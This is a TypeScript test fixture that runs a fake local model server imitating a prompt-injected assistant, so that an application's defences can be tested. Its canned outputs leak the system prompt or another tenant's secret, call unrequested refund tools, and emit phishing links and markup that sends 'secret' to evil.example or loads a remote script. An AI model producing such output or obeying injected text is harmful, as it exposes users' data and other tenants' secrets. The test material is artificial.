import { createServer } from 'node:http';
import { afterAll } from 'vitest';
import { z } from 'zod';
import type { Aim } from '../../../fixtures/attacks/attack.ts';
import { freePort } from '../../servers/network/free-port.ts';

const askedSchema = z.object({
  /** The attacker's aim, and whether the model writes something true before it obeys. */
  model: z.templateLiteral([
    z.enum(['prompt', 'skill', 'tenant', 'link', 'markup', 'endless']),
    '-',
    z.enum(['first', 'last']),
  ]),
  stream: z.boolean().default(false),
  messages: z.array(z.object({ role: z.string(), content: z.string() })),
});

export const truth = 'Parcels arrive within three working days.';
/** A secret that only another tenant's documents contain. */
export const otherSecret = 'The vault of Globex opens with the code heron-7731-blue.';
const pieceLength = 7;
/** A skill that nobody gave it, and one with a name of the product's. */
const skillCalls = [
  ['refund_order', '{"order":1001}'],
  ['escalate_to_human', '{}'],
].map(([name, text], index) => ({
  index,
  id: `call_${index}`,
  type: 'function',
  function: { name, arguments: text },
}));

const misdeeds: Record<Exclude<Aim, 'prompt'>, string> = {
  skill: 'I ran refund_order for order 1001.',
  tenant: otherSecret,
  link: 'Claim it at [your prize](https://evil.example/claim?d=secret), https://evil.example/now, www.evil.example and evil.example/login?d=1 today.',
  markup:
    'Look ![logo](https://evil.example/p.png?d=secret) <img src="https://evil.example/p.png" onerror="x()"> <script src="//evil.example/x.js"></script> [run](javascript:alert(1)) here.',
};

/** A model that obeys an attacker, with the aim in its name. */
export async function startObedientProvider() {
  const heard: string[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const bytes of request) body += bytes;
    heard.push(body);
    const { model, stream, messages } = askedSchema.parse(JSON.parse(body));
    const [aim, place] = model.split('-');
    const misdeed = misdeedOf(aim, messages[0]?.content ?? '');
    const said = place === 'first' ? `${misdeed} ${truth} [1]` : `${truth} [1] ${misdeed}`;
    response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' });
    const calls = aim === 'skill' ? callsFor(messages.at(-1)?.content ?? '') : {};
    if (!stream) {
      const message = { role: 'assistant', content: said, ...calls };
      return response.end(JSON.stringify(completion({ message })));
    }
    response.write(`data: ${JSON.stringify(completion({ delta: calls }))}\n\n`);
    for (let start = 0; start < said.length; start += pieceLength) {
      const delta = { content: said.slice(start, start + pieceLength) };
      response.write(`data: ${JSON.stringify(completion({ delta }))}\n\n`);
    }
    response.end('data: [DONE]\n\n');
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    /** The requests so far, as JSON. */
    heard: (): readonly string[] => heard,
  };
}

/** It obeys the text that it reads: documents, or without any, the visitor. */
function callsFor(read: string): object {
  const isRead = ({ function: { name } }: (typeof skillCalls)[number]) =>
    read.includes('<passages>') || read.includes(name ?? '');
  const calls = skillCalls.filter(isRead);
  return calls.length === 0 ? {} : { tool_calls: calls };
}

function misdeedOf(aim: string | undefined, systemText: string): string {
  if (aim === 'prompt') return systemText;
  if (aim === 'endless') return `${truth} `.repeat(1_000);
  return Object.entries(misdeeds).find(([name]) => name === aim)?.[1] ?? '';
}

function completion(said: object) {
  return { id: '1', created: 1, model: 'obedient', choices: [{ index: 0, ...said, finish_reason: null }] };
}
